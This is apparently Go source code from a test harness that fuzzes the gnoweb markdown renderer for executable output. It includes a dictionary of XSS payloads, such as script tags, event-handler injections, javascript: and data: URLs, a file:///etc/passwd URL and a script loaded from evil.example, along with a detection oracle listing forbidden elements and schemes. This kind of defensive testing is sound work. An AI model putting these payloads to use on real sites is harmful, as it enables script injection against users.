		out = append(out, "</gno-columns>")
	}
	return out
}

func (g *gen) foreignBlock(depth int) []string {
	r := g.r
	open := "<gno-foreign>"
	switch r.IntN(6) {
	case 0, 1:
		g.feat("foreign:label")
		open = "<gno-foreign label=" + g.quoteAttr(g.fieldValue("foreign-label")) + ">"
	case 2:
		open = pick(r, []string{"<GNO-FOREIGN>", "<gno-foreign onclick=\"alert(1)\">", "<gno-foreign label=\"a\" " + g.newCanary('z', "foreign-attr") + "=\"1\">", "  <gno-foreign>"})
	}
	out := []string{"", open}
	g.foreign++
	body := g.blocks(1+r.IntN(4), depth+1, true)
	g.foreign--
	out = append(out, body...)
	if !g.chance(10) {
		out = append(out, "</gno-foreign>")
	}
	return append(out, "")
}

// doc produces one document.
func (g *gen) doc() string {
	lines := g.blocks(2+g.r.IntN(8), 0, true)
	s := strings.Join(lines, "\n")
	// occasional CRLF / CR line endings
	switch g.r.IntN(20) {
	case 0:
		s = strings.ReplaceAll(s, "\n", "\r\n")
	case 1:
		s = strings.ReplaceAll(s, "\n", "\r")
	}
	return s
}

// longDoc: very long inputs built by repetition / deep nesting of hostile constructs.
func (g *gen) longDoc(target int) string {
	r := g.r
	var sb strings.Builder
	switch r.IntN(6) {
	case 0: // one very long URL / title
		sb.WriteString("[x](" + g.hostileURL() + strings.Repeat("A", target) + " \"" + strings.Repeat(g.inst(pick(r, attrInjections), "long-title"), target/40+1) + "\")\n")
	case 1: // many links
		for sb.Len() < target {
			sb.WriteString("[" + g.plainWords(1) + "](" + g.dest(g.hostileURL()) + ") ![a](" + g.dest(g.hostileURL()) + ")\n")
		}
	case 2: // deep quotes / lists with raw html at the bottom
		d := 20 + r.IntN(200)
		for i := 0; i < d; i++ {
			sb.WriteString(strings.Repeat(pick(r, []string{"> ", "- ", "1. "}), 1))
		}
		sb.WriteString(g.canaryTag("deep-nesting") + "\n")
		for sb.Len() < target {
			sb.WriteString(strings.Repeat("> ", d%50) + g.inst(pick(r, rawHTML), "deep-nesting") + "\n")
		}
	case 3: // huge form
		sb.WriteString("<gno-form exec=\"Do\">\n")
		for i := 0; sb.Len() < target; i++ {
			fmt.Fprintf(&sb, "<gno-input name=\"n%d\" placeholder=%s value=%s />\n", i, g.quoteAttr(g.fieldValue("form-input-placeholder")), g.quoteAttr(g.fieldValue("form-input-value")))
		}
		sb.WriteString("</gno-form>\n")
	case 4: // huge raw html block
		sb.WriteString("<div>\n")
		for sb.Len() < target {
			sb.WriteString(g.inst(pick(r, rawHTML), "html-block") + g.canaryTag("html-block") + "\n")
		}
		sb.WriteString("</div>\n")
	default: // many generated blocks
		for sb.Len() < target {
			g.budget = 50
			sb.WriteString(strings.Join(g.blocks(10, 0, true), "\n"))
			sb.WriteString("\n\n")
		}
	}
	g.feat("long")
	return sb.String()
}
