package c52

import "strings"

// minimize shrinks src while pred(src) stays true (ddmin over lines, then over
// bytes). pred is called at most maxCalls times.
func minimize(src string, pred func(string) bool, maxCalls int) string {
	calls := 0
	try := func(s string) bool {
		if calls >= maxCalls {
			return false
		}
		calls++
		return pred(s)
	}
	dd := func(parts []string, join string) []string {
		n := 2
		for len(parts) >= 2 && calls < maxCalls {
			chunk := (len(parts) + n - 1) / n
			reduced := false
			for i := 0; i < len(parts); i += chunk {
				e := min(len(parts), i+chunk)
				cand := append(append([]string{}, parts[:i]...), parts[e:]...)
				if len(cand) > 0 && try(strings.Join(cand, join)) {
					parts = cand
					n = max(n-1, 2)
					reduced = true
					break
				}
			}
			if !reduced {
				if n >= len(parts) {
					break
				}
				n = min(len(parts), n*2)
			}
		}
		return parts
	}
	lines := dd(strings.Split(src, "\n"), "\n")
	cur := strings.Join(lines, "\n")
	if len(cur) > 4096 { // keep the byte phase affordable
		return cur
	}
	bs := make([]string, len(cur))
	for i := 0; i < len(cur); i++ {
		bs[i] = cur[i : i+1]
	}
	bs = dd(bs, "")
	return strings.Join(bs, "")
}
