package c52

// Attack payload dictionaries. Everything here is hostile *input*; the oracle
// never looks at these tables.

var schemeBodies = []struct{ scheme, rest string }{
	{"javascript", "alert(1)"},
	{"javascript", "alert('x')"},
	{"javascript", "alert(&quot;x&quot;)"},
	{"javascript", "//%0aalert(1)"},
	{"javascript", "void(0)"},
	{"vbscript", "msgbox(1)"},
	{"data", "text/html,<script>alert(1)</script>"},
	{"data", "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="},
	{"data", "image/svg+xml,<svg onload=alert(1)>"},
	{"data", "image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4="},
	{"data", "image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"},
	{"data", "image/png;base64,iVBORw0KGgo="},
	{"data", "image/gif;base64,R0lGODlhAQABAAAAACw="},
	{"data", "image/jpeg;base64,/9j/4AAQ"},
	{"data", "image/webp;base64,UklGRg=="},
	{"data", "application/javascript,alert(1)"},
	{"data", ",x"},
	{"file", "///etc/passwd"},
	{"file", "//c:/windows/win.ini"},
}

var benignURLs = []string{
	"https://example.com/a?b=1&c=2", "http://gno.land/r/demo/users", "https://gno.land/r/demo/foo$help&func=Render",
	"/r/demo/foo", "/r/demo/foo:bar/baz", "/r/demo/foo$help&func=Render&x=1", "/r/demo/foo$help", "$help&func=Do", "?x=1&y=2",
	"./rel/path", "../up", "#frag", "mailto:a@b.c", "mailto:a@b.c?subject=x", "/u/alice", "/u/g1jg8mtutu9khhfwc4nxmuhcpftf0pajdhfvsqf5",
	"ftp://host/x", "//evil.example/x", "gno.land/r/x", "tel:+123", "irc://chat/x", "/p/demo/avl", "/r/other/realm:path?arg=1$source",
	"https://gno.land/r/test", "https://other.land/r/test", "/r/test:x", "x y z", "a\"b", "a'b", "a<b>c", "%zz%", "http://[::1", "blob:https://x/y",
	"https://example.com/\" onmouseover=\"alert(1)", "https://example.com/'onx='1", "https://example.com/><script>alert(1)</script>",
	"/r/demo/foo$help&func=\"><img src=x onerror=alert(1)>", "HTTPS://EXAMPLE.COM", "https://example.com/" + "\u202e" + "gpj.exe",
}

// attribute-injection strings: used for titles, alts, labels, placeholders,
// default values, names, descriptions, labels of foreign blocks, info strings…
var attrInjections = []string{
	`" onmouseover="alert(1)`, `' onfocus='alert(1)`, `"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`,
	`x" ZCANARY="1" y="`, `x' ZCANARY='1' y='`, "` onload=`alert(1)", `&quot; onerror=&quot;alert(1)`, `&#34; onerror=&#34;alert(1)`,
	`&#x22; autofocus onfocus=&#x22;alert(1)`, `\" onload=\"alert(1)`, `--><script>alert(1)</script><!--`, `--!><script>alert(1)</script>`,
	`</textarea><script>alert(1)</script>`, `</option></select><img src=x onerror=alert(1)>`, `</label><svg onload=alert(1)>`,
	`</form><form action="javascript:alert(1)"><input type=submit>`, `]]><script>alert(1)</script>`, `%22%20onerror=%22alert(1)`,
	`</summary></details><script>alert(1)</script>`, `</div><XCANARY ZCANARY=1>`, `" style="position:fixed;top:0" x="`,
	`" formaction="javascript:alert(1)" type="submit`, `javascript:alert(1)`, `{{.}}`, `{{define "x"}}<script>alert(1)</script>{{end}}`,
	"\x00\"onx=\"1", "\"\tonx\n=\r\"1", `"/onx="1`, `" onx=1 "`, "\u201c onx=\u201d1", `＂ onclick=＂alert(1)`, `" on` + "\u017f" + `ubmit="1`,
	`</textarea><XCANARY ZCANARY=1>`, `</option></select><XCANARY>`, `</label><XCANARY ZCANARY>`, `"><XCANARY ZCANARY=1 x="`, `'><XCANARY>`, `</div></form><XCANARY>`, `</summary><XCANARY>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;`, `<`, `>`, `"`, `'`, `&`, `\`, "`",
}

// raw HTML attack snippets (inline or block).
var rawHTML = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror=alert(1)>`, `<img/src/onerror=alert(1)>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"></use></svg>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`, `<style>@import 'javascript:alert(1)';</style>`, `<link rel=stylesheet href="javascript:alert(1)">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<base href="javascript:alert(1)//">`,
	`<form action="javascript:alert(1)"><input type=submit formaction="javascript:alert(2)"></form>`, `<button formaction="javascript:alert(1)">x</button>`,
	`<math><mtext><script>alert(1)</script></mtext></math>`, `<details open ontoggle=alert(1)>`, `<a href="javascript:alert(1)">x</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`, `<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<video poster="javascript:alert(1)"><source onerror=alert(1)></video>`,
	`<table background="javascript:alert(1)">`, `<div style="background:url(javascript:alert(1))">`, `<marquee onstart=alert(1)>`, `<isindex action=javascript:alert(1) type=submit>`,
	`<scr` + "\x00" + `ipt>alert(1)</script>`, "<script\n>alert(1)</script\n>", `<<script>alert(1)//<</script>`, `<script`, `</script><script>alert(1)</script>`,
	`<!--><script>alert(1)</script>-->`, `<!-- --!><script>alert(1)</script>`, `<?xml version="1.0"?><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`,
	`<!DOCTYPE html><script>alert(1)</script>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea><script>alert(1)</script></textarea>`,
	`<plaintext>`, `<xmp><script>alert(1)</script></xmp>`, `<title><script>alert(1)</script></title>`, `<div onclick="alert(1)">`, `<p/onclick=alert(1)>`,
	`<gno-form><gno-input name="x" onfocus="alert(1)" /></gno-form>`, `<gno-columns onclick=alert(1)>`, `<gno-foreign onclick=alert(1)>`,
}

// unicode look-alike substitutions for scheme letters.
var lookalikes = map[byte][]string{
	'j': {"ｊ", "ϳ", "ј"}, 'a': {"а", "ａ"}, 'v': {"ｖ", "ν"}, 's': {"ｓ", "ſ", "ѕ"}, 'c': {"ｃ", "с"}, 'r': {"ｒ"},
	'i': {"ｉ", "ı", "і"}, 'p': {"ｐ", "р"}, 't': {"ｔ"}, 'd': {"ｄ"}, 'f': {"ｆ"}, 'l': {"ｌ"}, 'e': {"ｅ", "е"}, 'b': {"ｂ"}, ':': {"：", "﹕", "ː"},
}

var words = []string{
	"gno", "realm", "render", "hello", "world", "foo", "bar", "baz", "lorem", "ipsum", "dolor", "42", "x", "the", "a", "of",
	"*", "_", "**", "__", "~~", "`", "[", "]", "(", ")", "!", "<", ">", "&", "\\", "|", "#", "-", "+", "=", ":", "\"", "'",
	"&amp;", "&lt;", "&gt;", "&quot;", "&#60;", "&#x3c;script&#x3e;", "&nbsp;", "&#0;", "&bogus;", "\u00e9", "\u4e16\u754c", "\U0001F600", "\u202e", "\u200b", "\ufeff",
}

var langs = []string{"go", "gno", "html", "js", "javascript", "json", "md", "markdown", "sh", "bash", "xml", "svg", "css", "text", "txt", "c++", "unknownlang", "", "go ", "GO", "go{.x}", "go onclick=alert(1)"}

var alertKinds = []string{"NOTE", "TIP", "CAUTION", "WARNING", "SUCCESS", "INFO", "note", "Warning", "X", "script", "onload", "info_1", "TIP2"}

const bechAddr = "g1jg8mtutu9khhfwc4nxmuhcpftf0pajdhfvsqf5"

var mentions = []string{"@alice", "@bob_123", "@a", "@ab", "@" + bechAddr, bechAddr, " " + bechAddr, "@alice<script>", "@script_onload", "@alice\"onx=", "g1" + "qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqq", "@XCANARY"}
