package c52

import (
	"bytes"
	"fmt"
	"regexp"
	"strings"

	"golang.org/x/net/html"
)

// finding is one oracle hit on a rendered output.
type finding struct {
	Key    string // specific violation key (class:vector)
	Detail string // human readable
	Token  string // the offending markup token, re-serialised
}

// site statistics the oracle gathers while scanning (for evidence / non-triviality).
type scanStats struct {
	elements   map[string]int // element name -> count (start / self-closing tags)
	urlAttrs   int            // URL-bearing attributes inspected
	emptyURLs  int            // URL-bearing attributes with empty value (neutralised destinations)
	dataImages int            // img src data:image/svg+xml accepted under the validator policy
	formAttrs  int            // attributes on form controls inspected
	comments   int
	rawOmitted int // "<!-- raw HTML omitted -->" markers
	attrs      int
	styleAttrs int // style attributes other than table-cell text-align
}

// forbidden elements: never emitted by gnoweb's markdown pipeline, script-capable or document-altering.
var forbiddenElements = map[string]bool{
	"script": true, "iframe": true, "object": true, "embed": true, "style": true, "link": true,
	"meta": true, "base": true, "frame": true, "frameset": true, "applet": true, "noscript": true,
	"template": true, "portal": true, "math": true, "foreignobject": true, "animate": true, "set": true,
	"animatetransform": true, "animatemotion": true, "handler": true, "listener": true,
}

// allowedElements is the element vocabulary of the default gnoweb pipeline:
// goldmark core + GFM (strikethrough, table, footnote, tasklist) + chroma
// highlighting + gnoweb extensions (learned from the golden outputs and the
// renderers in gno.land/pkg/gnoweb/markdown). Anything else in the output can
// only have come from the document itself (raw passthrough).
var allowedElements = map[string]bool{
	"p": true, "h1": true, "h2": true, "h3": true, "h4": true, "h5": true, "h6": true,
	"a": true, "img": true, "em": true, "strong": true, "del": true, "code": true, "pre": true,
	"blockquote": true, "ul": true, "ol": true, "li": true, "hr": true, "br": true,
	"table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true,
	"sup": true, "div": true, "span": true, "input": true,
	// gnoweb extensions
	"svg": true, "use": true, "details": true, "summary": true, "form": true, "label": true,
	"select": true, "option": true, "textarea": true,
	// command template inside exec forms
	"button": true,
}

// allowedAttrs is the attribute vocabulary (any element) of the same pipeline.
var allowedAttrs = map[string]bool{
	"class": true, "id": true, "href": true, "src": true, "alt": true, "title": true, "rel": true,
	"role": true, "type": true, "name": true, "value": true, "placeholder": true, "checked": true,
	"disabled": true, "readonly": true, "required": true, "selected": true, "rows": true, "for": true,
	"method": true, "action": true, "autocomplete": true, "spellcheck": true, "open": true,
	"align": true, "start": true, "style": true, "tabindex": true,
}

// goldmark's GlobalAttributeFilter (renderer/html): names the heading attribute
// syntax `# h {name=value}` may emit; only enabled in the doc-context pipeline.
var goldmarkGlobalAttrs = map[string]bool{
	"accesskey": true, "autocapitalize": true, "autofocus": true, "class": true, "contenteditable": true, "dir": true, "draggable": true,
	"enterkeyhint": true, "hidden": true, "id": true, "inert": true, "inputmode": true, "is": true, "itemid": true, "itemprop": true,
	"itemref": true, "itemscope": true, "itemtype": true, "lang": true, "part": true, "role": true, "slot": true, "spellcheck": true,
	"style": true, "tabindex": true, "title": true, "translate": true,
}

// attribute-name prefixes that are inert by construction.
func inertPrefixedAttr(k string) bool {
	return strings.HasPrefix(k, "data-") || strings.HasPrefix(k, "aria-")
}

// URL-bearing attributes (HTML + SVG + legacy).
var urlAttrs = map[string]bool{
	"href": true, "src": true, "action": true, "formaction": true, "srcset": true, "poster": true,
	"data": true, "xlink:href": true, "background": true, "cite": true, "longdesc": true, "ping": true,
	"manifest": true, "codebase": true, "lowsrc": true, "dynsrc": true, "icon": true, "usemap": true,
	"profile": true, "archive": true, "classid": true, "imagesrcset": true, "from": true, "to": true, "values": true,
}

var reTextAlign = regexp.MustCompile(`^text-align: ?(left|right|center)$`)

// normURL applies the WHATWG URL-parser preprocessing to an (already
// entity-decoded) attribute value: strip leading/trailing C0-control-or-space,
// remove every ASCII tab / LF / CR, then ASCII-lowercase.
func normURL(v string) string {
	b := []byte(v)
	i, j := 0, len(b)
	for i < j && b[i] <= 0x20 {
		i++
	}
	for j > i && b[j-1] <= 0x20 {
		j--
	}
	out := make([]byte, 0, j-i)
	for _, c := range b[i:j] {
		if c == '\t' || c == '\n' || c == '\r' {
			continue
		}
		if c >= 'A' && c <= 'Z' {
			c += 'a' - 'A'
		}
		out = append(out, c)
	}
	return string(out)
}

var dangerousSchemes = []struct{ prefix, class string }{
	{"javascript:", "js-url"}, {"vbscript:", "vbs-url"}, {"file:", "file-url"}, {"data:", "data-url"},
	{"livescript:", "js-url"}, {"mocha:", "js-url"},
}

// policy is the per-render-path part of the oracle.
type policy struct {
	// docContext: RenderDocumentation pipeline. It has no gnoweb image
	// validator (goldmark's own data:image allow-list is the only image
	// policy there) and enables goldmark's heading attribute syntax, whose
	// filter admits style= (CSS only: counted, not judged).
	docContext bool
}

var reDataImage = regexp.MustCompile(`^data:image/(png|gif|jpeg|webp|svg\+xml);`)

// dangerousScheme reports the violation class for a normalised URL ("" if inert).
// data: URLs of the raster/svg image types goldmark lets through get their own
// class (data-image-url) so that they are distinguishable from arbitrary data:.
func dangerousScheme(n string) string {
	for _, d := range dangerousSchemes {
		if strings.HasPrefix(n, d.prefix) {
			if d.class == "data-url" && reDataImage.MatchString(n) {
				return "data-image-url"
			}
			return d.class
		}
	}
	return ""
}

// imgDataAllowed: data: URLs allowed in <img src>. Realm path: only what the
// default image validator explicitly allows (render_config.go
// allowSvgDataImage): data:image/svg+xml. Doc path: no validator is
// configured; goldmark's allow-list (png, gif, jpeg, webp, svg+xml) applies.
func imgDataAllowed(n string, pol policy) bool {
	if pol.docContext {
		return reDataImage.MatchString(n)
	}
	return strings.HasPrefix(n, "data:image/svg+xml")
}

func tokString(t html.Token) string {
	s := t.String()
	if len(s) > 400 {
		s = s[:400] + "…"
	}
	return s
}

// scan tokenises out (browser-grade tokenizer: golang.org/x/net/html) and
// returns every property violation plus site statistics.
// canaries: lower-cased unique names planted in the document as raw element and attribute names.
func scan(out []byte, canaries []canary, pol policy) ([]finding, *scanStats) {
	st := &scanStats{elements: map[string]int{}}
	var fs []finding
	add := func(key, tok, f string, a ...any) {
		fs = append(fs, finding{Key: key, Detail: fmt.Sprintf(f, a...), Token: tok})
	}
	// all canaries of one document share the substring "cn<doc-tag>": cheap pre-filter
	canaryMark := ""
	if len(canaries) > 0 && len(canaries[0].name) >= 9 {
		canaryMark = canaries[0].name[1:9]
	}
	matchCanary := func(s string) []canary {
		if canaryMark == "" || !strings.Contains(s, canaryMark) {
			return nil
		}
		var hit []canary
		for _, c := range canaries {
			if strings.Contains(s, c.name) {
				hit = append(hit, c)
				if len(hit) == 4 {
					break
				}
			}
		}
		return hit
	}
	z := html.NewTokenizer(bytes.NewReader(out))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			break // io.EOF (reader is in-memory)
		}
		t := z.Token()
		switch tt {
		case html.CommentToken:
			st.comments++
			if strings.Contains(t.Data, "raw HTML omitted") {
				st.rawOmitted++
			}
			continue
		case html.DoctypeToken:
			add("raw-passthrough:doctype", tokString(t), "doctype token in rendered fragment")
			continue
		case html.TextToken:
			continue
		}
		name := strings.ToLower(t.Data)
		// canaries as markup (element names), start or end tags alike
		isCanary := false
		for _, c := range matchCanary(name) {
			{
				isCanary = true
				add("raw-passthrough:"+c.ctx, tokString(t), "canary element %q planted as raw HTML (%s) is a markup token in the output", c.name, c.ctx)
			}
		}
		if tt == html.EndTagToken {
			continue
		}
		st.elements[name]++
		if forbiddenElements[name] {
			add("forbidden-element:"+name, tokString(t), "<%s> element in output", name)
		} else if !allowedElements[name] && !isCanary {
			add("unexpected-element:"+keyElem(name), tokString(t), "<%s> is not in gnoweb's output vocabulary: raw passthrough", clip(name, 60))
		}
		formCtl := name == "input" || name == "select" || name == "option" || name == "textarea" || name == "form" || name == "label" || name == "button"
		for _, a := range t.Attr {
			st.attrs++
			k := strings.ToLower(a.Key)
			if a.Namespace != "" {
				k = strings.ToLower(a.Namespace) + ":" + k
			}
			if formCtl {
				st.formAttrs++
			}
			attrCanary := false
			for _, c := range matchCanary(k) {
				{
					attrCanary = true
					add("raw-passthrough:"+c.ctx, tokString(t), "canary attribute %q planted in the document (%s) is an attribute of <%s> in the output", c.name, c.ctx, clip(name, 60))
				}
			}
			if attrCanary {
				continue
			}
			if strings.HasPrefix(k, "on") {
				add("event-attr:"+keyElem(name), tokString(t), "event-handler attribute %s=%q on <%s>", clip(k, 40), clip(a.Val, 120), clip(name, 60))
				continue
			}
			if !allowedAttrs[k] && !inertPrefixedAttr(k) && !(pol.docContext && goldmarkGlobalAttrs[k]) {
				add("unexpected-attr:"+keyAttr(k), tokString(t), "attribute %q on <%s> is not in gnoweb's output vocabulary", clip(k, 40), clip(name, 60))
			}
			if k == "style" && !reTextAlign.MatchString(a.Val) {
				st.styleAttrs++
			}
			if k == "style" && !reTextAlign.MatchString(a.Val) && !pol.docContext {
				add("style-attr:"+keyElem(name), tokString(t), "style attribute %q on <%s>", clip(a.Val, 120), clip(name, 60))
			}
			if k == "type" && name == "input" {
				switch strings.ToLower(a.Val) {
				case "text", "number", "email", "tel", "password", "radio", "checkbox", "hidden", "submit":
				default:
					add("input-type:"+keyAttrVal(strings.ToLower(a.Val)), tokString(t), "input type %q outside the form extension's allowed set", clip(a.Val, 60))
				}
			}
			if urlAttrs[k] {
				st.urlAttrs++
				if a.Val == "" {
					st.emptyURLs++
				}
				vals := []string{a.Val}
				if k == "srcset" || k == "imagesrcset" || k == "ping" || k == "archive" || k == "values" {
					vals = strings.FieldsFunc(a.Val, func(r rune) bool { return r == ',' || r == ';' })
				}
				for _, v := range vals {
					n := normURL(v)
					cls := dangerousScheme(n)
					if cls == "" {
						continue
					}
					if (cls == "data-url" || cls == "data-image-url") && name == "img" && k == "src" && imgDataAllowed(n, pol) {
						st.dataImages++
						continue
					}
					add(cls+":"+keyElem(name)+"-"+k, tokString(t), "%s=%q on <%s> normalises to script-capable/forbidden scheme %q", k, clip(v, 160), clip(name, 60), clip(n, 80))
				}
			}
		}
		// <use href> must stay a same-document fragment reference (icon sprite)
		if name == "use" {
			for _, a := range t.Attr {
				if strings.ToLower(a.Key) == "href" && !strings.HasPrefix(a.Val, "#ico-") {
					add("svg-use-external:use", tokString(t), "<use href=%q> is not a sprite fragment reference", clip(a.Val, 120))
				}
			}
		}
	}
	return fs, st
}

var wellKnownElements = func() map[string]bool {
	m := map[string]bool{}
	for _, e := range strings.Fields(`a abbr address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button canvas caption center cite code col colgroup
		data datalist dd del details dfn dialog dir div dl dt em embed fieldset figcaption figure font footer form frame frameset h1 h2 h3 h4 h5 h6 head header hgroup hr html i iframe image img
		input ins isindex kbd keygen label legend li link listing main map mark marquee math menu meta meter nav nobr noembed noframes noscript object ol optgroup option output p param picture
		plaintext pre progress q rp rt ruby s samp script section select slot small source span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time
		title tr track tt u ul use var video wbr xmp animate set foreignobject text mtext mi mo
		gno-form gno-input gno-textarea gno-select gno-columns gno-columns-sep gno-foreign gno-card`) {
		m[e] = true
	}
	return m
}()

var wellKnownAttrs = func() map[string]bool {
	m := map[string]bool{}
	for _, a := range strings.Fields(`accept accesskey action align allow alt async autocapitalize autocomplete autofocus autoplay background bgcolor border charset checked cite class color cols
		colspan content contenteditable controls coords data datetime default defer dir disabled download draggable enctype for form formaction headers height hidden high href hreflang
		http-equiv id integrity is ismap itemprop kind label lang list loop low max maxlength media method min multiple muted name novalidate open optimum pattern ping placeholder poster
		preload readonly rel required reversed rows rowspan sandbox scope selected shape size sizes slot span spellcheck src srcdoc srclang srcset start step style tabindex target title
		translate type usemap value width wrap xlink:href xmlns path exec description`) {
		m[a] = true
	}
	return m
}()

// keyElem / keyAttr bound the cardinality of violation keys: document-chosen
// names outside the HTML vocabulary collapse to "other".
func keyElem(name string) string {
	if wellKnownElements[name] {
		return name
	}
	return "other"
}

func keyAttr(name string) string {
	if wellKnownAttrs[name] {
		return name
	}
	return "other"
}

func clip(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "…"
}

// keyAttrVal bounds input-type keys.
func keyAttrVal(v string) string {
	switch v {
	case "image", "file", "button", "reset", "search", "url", "date", "color", "range", "":
		return v
	}
	return "other"
}
