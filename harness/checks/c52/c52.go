// Package c52: gnoweb never turns realm output into executable web content.
//
// Renderer under test: gnoweb.NewHTMLRenderer(logger, cfg.RenderConfig, nil)
// with cfg = gnoweb.NewDefaultAppConfig(), wired exactly as gnoweb.NewRouter
// does (the UnsafeHTML branch is mirrored; it is off by default), and driven
// through RenderRealm (realm Render() output, README.md) and
// RenderDocumentation (doc-context markdown with code expansion). A sample is
// additionally pushed through the real HTTP handler (NewHTTPHandler with a
// stub ClientAdapter as the only fake) and the whole served page is scanned.
//
// Oracle: the produced HTML is tokenised with golang.org/x/net/html (an
// HTML5-conformant tokenizer independent of goldmark) and must contain no
// script-capable element, no on* attribute, no URL-bearing attribute whose
// WHATWG-normalised value has a javascript:/vbscript:/file:/data: scheme
// (except <img src="data:image/svg+xml…"> which the default image validator
// explicitly allows), no element/attribute outside gnoweb's output vocabulary,
// and none of the unique canary element/attribute names planted as raw HTML.
package c52

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"math/rand/v2"
	"runtime/debug"
	"sort"
	"strings"
	"sync"
	"unicode/utf8"

	"github.com/gnolang/gno/gno.land/pkg/gnoweb"
	"github.com/gnolang/gno/gno.land/pkg/gnoweb/weburl"
	"github.com/yuin/goldmark"
	mdhtml "github.com/yuin/goldmark/renderer/html"

	"verifharness/internal/vf"
)

func init() {
	vf.Register(&vf.Check{
		ID:    "C52",
		Level: "exploration",
		Rule: "cases = (render path, markdown document): grammar-generated hostile documents (CommonMark+GFM constructs x every gnoweb extension x attack payload dictionary x nesting), " +
			"token/byte mutants of every golden input/output under markdown/golden, very long documents, a fixed regression list; each rendered by the default gnoweb renderer " +
			"(RenderRealm; every 4th also RenderDocumentation; a sample through the HTTP handler). non-trivial = the output contains at least one risk site the oracle had to judge " +
			"(a URL-bearing attribute, a form-control attribute, a dropped raw-HTML marker, or a planted canary surviving as escaped text); distinct by (path, document)",
		Run:    run,
		Replay: replay,
	})
}

const (
	modeRealm = "realm"
	modeDoc   = "doc"
	modePage  = "page"
)

type harness struct {
	c    *vf.Ctx
	rd   *gnoweb.HTMLRenderer
	urls []*weburl.GnoURL
	page *pageHarness

	mu        sync.Mutex
	keySeen   map[string]int
	keyGate   map[string]chan struct{}
	keyDone   map[string]int
	panics    map[string]map[string]any
	minimised int
}

var realmURLs = []string{"/r/demo/foo", "/r/gnoland/home", "/r/test", "/r/demo/foo:some/path", "/r/demo/foo:x?arg=1&b=2", "/r/a_b/c-d:p$help", "https://gno.land/r/test"}

func newRenderer() (*gnoweb.HTMLRenderer, bool) {
	logger := slog.New(slog.NewTextHandler(io.Discard, nil))
	cfg := gnoweb.NewDefaultAppConfig()
	// mirror of gnoweb.NewRouter ("Configure Markdown renderer")
	rcfg := cfg.RenderConfig
	if cfg.UnsafeHTML {
		rcfg.GoldmarkOptions = append(rcfg.GoldmarkOptions, goldmark.WithRendererOptions(mdhtml.WithXHTML(), mdhtml.WithUnsafe()))
	}
	return gnoweb.NewHTMLRenderer(logger, rcfg, nil), cfg.UnsafeHTML
}

func (h *harness) render(mode string, u *weburl.GnoURL, src []byte) (out []byte, err error, pv any) {
	var b bytes.Buffer
	func() {
		defer func() {
			if r := recover(); r != nil {
				pv = r
				h.notePanic(mode, r, debug.Stack(), src)
			}
		}()
		switch mode {
		case modeRealm:
			_, err = h.rd.RenderRealm(&b, u, src, gnoweb.RealmRenderContext{ChainId: "dev", Remote: "127.0.0.1:26657", Domain: "gno.land"})
		case modeDoc:
			err = h.rd.RenderDocumentation(&b, src)
		}
	}()
	return b.Bytes(), err, pv
}

// notePanic records renderer panics (robustness only: the property does not
// say "never panics", so they are counted and sampled, not judged).
func (h *harness) notePanic(mode string, r any, stack []byte, src []byte) {
	var frames []string
	lines := strings.Split(string(stack), "\n")
	for i, l := range lines {
		if (strings.Contains(l, "goldmark") || strings.Contains(l, "gnoweb") || strings.Contains(l, "chroma")) && strings.HasPrefix(l, "\t") {
			fn := ""
			if i > 0 {
				fn = strings.TrimSpace(lines[i-1])
			}
			frames = append(frames, fn+" @ "+strings.TrimSpace(l))
			if len(frames) == 4 {
				break
			}
		}
	}
	sig := fmt.Sprint(r)
	if len(frames) > 0 {
		sig = frames[0]
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.panics == nil {
		h.panics = map[string]map[string]any{}
	}
	if e, ok := h.panics[sig]; ok {
		e["count"] = e["count"].(int) + 1
		return
	}
	if len(h.panics) < 8 {
		h.panics[sig] = map[string]any{"count": 1, "path": mode, "panic": fmt.Sprint(r), "frames": frames, "first_input_q": clip(fmt.Sprintf("%q", src), 1500)}
	}
}

func inputWitness(s string) any {
	if utf8.ValidString(s) && !strings.ContainsRune(s, 0) {
		return s
	}
	return map[string]any{"quoted": fmt.Sprintf("%q", s), "hex": vf.Hex([]byte(s))}
}

// evaluate renders one document on one path and applies the oracle.
func (h *harness) evaluate(kind, mode string, ui int, src string, canaries []canary) (nviol int) {
	c := h.c
	u := h.urls[ui%len(h.urls)]
	out, err, pv := h.render(mode, u, []byte(src))
	c.Count("rendered:"+mode, 1)
	c.Count("kind:"+kind, 1)
	// gnoweb shares a stateful x/text Caser between goroutines (markdown/utils.go
	// titleCaser): concurrent renders occasionally panic. Not part of this
	// property; retry so that the case list stays a function of (seed, tier).
	for try := 0; pv != nil && try < 5; try++ {
		c.Count("render_panics", 1)
		out, err, pv = h.render(mode, u, []byte(src))
	}
	if pv != nil {
		c.Count("render_panics_persistent", 1)
		c.Case(mode+"\x00"+src, false)
		return 0
	}
	if err != nil {
		c.Count("render_errors", 1)
	}
	fs, st := scan(out, canaries, policy{docContext: mode == modeDoc})
	h.account(mode, src, out, st, canaries)
